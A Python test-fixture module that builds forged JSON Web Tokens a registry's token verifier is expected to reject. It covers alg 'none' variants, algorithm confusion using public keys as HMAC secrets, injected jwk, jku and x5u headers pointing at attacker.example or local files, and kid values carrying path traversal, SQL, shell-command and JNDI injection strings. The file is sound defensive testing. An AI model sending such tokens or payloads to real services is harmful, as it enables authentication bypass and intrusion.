"""Tokens that must be refused, in families: what they try, and the token. Made anew once per run."""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import cache
from typing import Any, Final

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.auth.tokens import (
    SECRET,
    Private,
    Secret,
    base64url,
    certificate,
    claims,
    compact,
    ec_key,
    ed_key,
    jwk,
    jwks,
    libtrust_kid,
    pem,
    public_pem,
    rsa_key,
    spki,
    thumbprint,
    token,
    x5c,
)

Hostile = Iterator[tuple[str, str]]

ROOT, SIGNER, STRANGER = 0, 1, 9
"""Numbers of keys: those of the bundle, those of certificates below it, and those that nobody trusts."""
RS256: Final = {"typ": "JWT", "alg": "RS256"}


@cache
def root() -> x509.Certificate:
    return certificate("root", rsa_key(ROOT), authority=True)


@cache
def elliptic() -> x509.Certificate:
    """Of a token service that has one certificate and signs with its key."""
    return certificate("signer", ec_key(ROOT))


def bundle() -> bytes:
    """What the registry trusts: three keys, two of them in certificates."""
    return pem(root(), elliptic()) + public_pem(ed_key(ROOT))


def key_set() -> bytes:
    """And more: a secret, and keys that are for something else, for one algorithm, or too short for some."""
    return jwks(
        jwk(SECRET[:32], kid="secret"),
        jwk(ec_key(ROOT, ec.SECP384R1), kid="p384"),
        jwk(rsa_key(2), kid="encrypting", use="enc"),
        jwk(ec_key(2), kid="wrapping", key_ops=["sign"]),
        jwk(rsa_key(3), kid="pss", alg="PS256"),
    )


def good() -> dict[str, str]:
    """One for each way to be trusted."""
    key = rsa_key(ROOT)
    return {
        "no kid": token(key),
        "libtrust": token(ec_key(ROOT), header={"kid": libtrust_kid(ec_key(ROOT))}),
        "thumbprint": token(ed_key(ROOT), header={"kid": thumbprint(ed_key(ROOT))}),
        "x5c": token(ec_key(SIGNER), header={"x5c": x5c(leaf())}),
        "secret": token(SECRET[:32], header={"kid": "secret"}),
        "P-384": token(ec_key(ROOT, ec.SECP384R1), header={"kid": "p384"}),
        "PS256": compact({"alg": "PS256", "kid": "pss"}, claims(), rsa_key(3), "PS256"),
    }


@cache
def leaf() -> x509.Certificate:
    return certificate("leaf", ec_key(SIGNER), "root", rsa_key(ROOT))


def signed(
    header: object, payload: object = None, key: Private | Secret | None = None, alg: str = "RS256"
) -> str:
    return compact(
        header, claims() if payload is None else payload, rsa_key(ROOT) if key is None else key, alg
    )


def algorithms() -> Hostile:
    """The algorithm is not what the key is for, or none at all."""
    statement = (
        f"{base64url(json.dumps({'alg': 'none'}).encode())}.{base64url(json.dumps(claims()).encode())}"
    )
    yield "none without a signature", f"{statement}."
    yield "none without its dot", statement
    for name in ("none", "None", "NONE", "nOnE", "none ", " none", "", "null", "NULL", "undefined", "0"):
        yield f"alg {name!r}, signed", signed({"typ": "JWT", "alg": name})
        yield f"alg {name!r}, a byte for a signature", signed({"alg": name}).rpartition(".")[0] + ".AA"
    for name in (
        "rs256", "Rs256", "RS256 ", " RS256", "RS256\0", "RS1", "RS224", "RS", "RSA", "SHA256", "HS1", "ES256K", "Ed25519",
        "Ed448", "eddsa", "ES521", "PS1", "dir", "RSA-OAEP", "RSA-OAEP-256", "A128KW", "A256GCMKW", "ECDH-ES",
        "PBES2-HS256+A128KW", "ML-DSA-44", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "RS256,none", "*",
    ):  # fmt: skip
        yield f"unknown alg {name!r}", signed({"alg": name})
    for value in (None, 0, 1, True, False, 256, 1.5, [], ["RS256"], {}, {"RS256": True}, [["RS256"]]):
        yield f"alg {value!r}", signed({"alg": value})
    yield "no alg", signed({"typ": "JWT"})
    for name in ("RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "EdDSA", "HS256"):
        yield f"alg {name} over a signature of RS256", signed({"alg": name})
    for name in ("ES384", "ES512", "RS256", "PS256", "EdDSA", "HS256"):
        yield f"alg {name} over a signature of ES256", signed({"alg": name}, key=ec_key(ROOT), alg="ES256")
    for name in ("ES256", "RS256", "HS512", "Ed25519"):
        yield f"alg {name} over a signature of EdDSA", signed({"alg": name}, key=ed_key(ROOT))


def confusion() -> Hostile:
    """What everybody knows is taken for a secret; secrets and keys are used for what they are not for."""
    for key in (rsa_key(ROOT), ec_key(ROOT), ed_key(ROOT)):
        public = key.public_key()
        secrets = {
            "PEM": public_pem(key), "PEM without its end": public_pem(key).rstrip(), "DER": spki(key),
            "certificate": pem(root()), "bundle": bundle(), "JWK": json.dumps(jwk(key)).encode(),
            "OpenSSH": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH), "kid": libtrust_kid(key).encode(),
        }  # fmt: skip
        for name, secret in secrets.items():
            for bits in (256, 512):
                header = {"alg": f"HS{bits}", "kid": libtrust_kid(key)}
                text = signed(header, key=secret, alg=f"HS{bits}")
                yield f"HS{bits} with {name} of {type(public).__name__}", text
    for secret in (b"", b"\0", b"secret", b"password", SECRET[:31], SECRET[1:33], bytes(32)):
        yield f"HS256 with the secret {secret!r}", signed({"alg": "HS256"}, key=secret, alg="HS256")
    for bits in (384, 512):
        header = {"alg": f"HS{bits}", "kid": "secret"}
        yield (
            f"HS{bits} with a secret that is too short for it",
            signed(header, key=SECRET[:32], alg=f"HS{bits}"),
        )
    yield "a key for encryption", signed({"alg": "RS256", "kid": "encrypting"}, key=rsa_key(2))
    yield "a key for encryption, not named", signed({"alg": "RS256"}, key=rsa_key(2))
    yield "a key that may only sign", signed({"alg": "ES256", "kid": "wrapping"}, key=ec_key(2), alg="ES256")
    yield "a key for another algorithm", signed({"alg": "RS256", "kid": "pss"}, key=rsa_key(3))
    yield "the key of another kid", signed({"alg": "RS256", "kid": libtrust_kid(ec_key(ROOT))})
    yield "the secret's kid for a key", signed({"alg": "RS256", "kid": "secret"})


def injections() -> Hostile:
    """The token brings its own key, or tells where one is."""
    own = rsa_key(STRANGER)
    trusted = libtrust_kid(rsa_key(ROOT))
    jwks_url, certificates_url = "https://attacker.example/jwks.json", "https://attacker.example/chain.pem"
    brought: dict[str, dict[str, Any]] = {
        "jwk": {"jwk": jwk(own)},
        "jwk with the trusted kid in it": {"jwk": jwk(own, kid=trusted)},
        "jwk with x5c in it": {"jwk": jwk(own, x5c=x5c(certificate("me", own)))},
        "jwk with the root's x5c in it": {"jwk": jwk(own, x5c=x5c(root()))},
        "jwk of the trusted key": {"jwk": jwk(rsa_key(ROOT))},
        "jwk that is a secret": {"jwk": jwk(b"k" * 32)},
        "jwk that is a text": {"jwk": json.dumps(jwk(own))},
        "jku": {"jku": jwks_url},
        "jku on this machine": {"jku": "http://127.0.0.1/jwks.json"},
        "jku that is a file": {"jku": "file:///etc/passwd"},
        "jku that is data": {"jku": "data:application/json," + jwks(jwk(own)).decode()},
        "x5u": {"x5u": certificates_url},
        "x5u that is a file": {"x5u": "file:///etc/ssl/certs/ca-certificates.crt"},
        "x5t of the root": {"x5t": base64url(root().fingerprint(hashes.SHA1()))},
        "x5t#S256 of the root": {"x5t#S256": base64url(root().fingerprint(hashes.SHA256()))},
    }
    for name, members in brought.items():
        for kid in ({}, {"kid": trusted}, {"kid": "own"}):
            header = {"typ": "JWT", "alg": "RS256", **kid, **members}
            yield f"{name}, kid {kid.get('kid')}", signed(header, key=own)
    yield "only a stranger's key", signed({"alg": "RS256"}, key=own)
    yield "only a stranger's elliptic key", signed({"alg": "ES256"}, key=ec_key(STRANGER), alg="ES256")
    yield "only a stranger's Edwards key", signed({"alg": "EdDSA"}, key=ed_key(STRANGER))
    header = {"alg": "HS256", "jwk": jwk(b"k" * 32)}
    yield "HS256 with the jwk that it brings", signed(header, key=b"k" * 32, alg="HS256")


def kids() -> Hostile:
    """Signed with a trusted key, which is called something that nothing is called."""
    for kid in (
        "", " ", "nobody", "../../../etc/passwd", "/dev/null", "/proc/self/environ", "..\\..\\windows\\win.ini",
        "file:///dev/null", "http://attacker.example/key", "' OR '1'='1", "' UNION SELECT 'secret' -- ", "1; DROP TABLE keys",
        "$(id)", "`id`", "| cat /etc/passwd", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%s%s%n", "\0", "secret\0",
        "secret ", " secret", "SECRET", "Secret", "s\u0435cret", "*", ".*", "__class__", "constructor", "0", "null", "None",
        "\ud800", "\u202esecret", "k" * 1000, "k" * 8000, "A" * 4000 + ":" * 4000, "é" * 500,
        libtrust_kid(rsa_key(ROOT)).lower(), libtrust_kid(rsa_key(ROOT)).replace(":", ""), libtrust_kid(rsa_key(ROOT))[:-1],
        libtrust_kid(rsa_key(ROOT)) + ":", libtrust_kid(rsa_key(STRANGER)), thumbprint(rsa_key(ROOT)) + "=",
        thumbprint(rsa_key(ROOT))[:-1],
    ):  # fmt: skip
        yield f"kid {kid[:40]!r} of {len(kid)}", signed({"alg": "RS256", "kid": kid})
    for value in (
        None,
        0,
        1,
        -1,
        1.5,
        True,
        False,
        [],
        ["secret"],
        {},
        {"secret": 1},
        [None],
        10**30,
        [["secret"]],
    ):
        yield f"kid {value!r}", signed({"alg": "RS256", "kid": value})
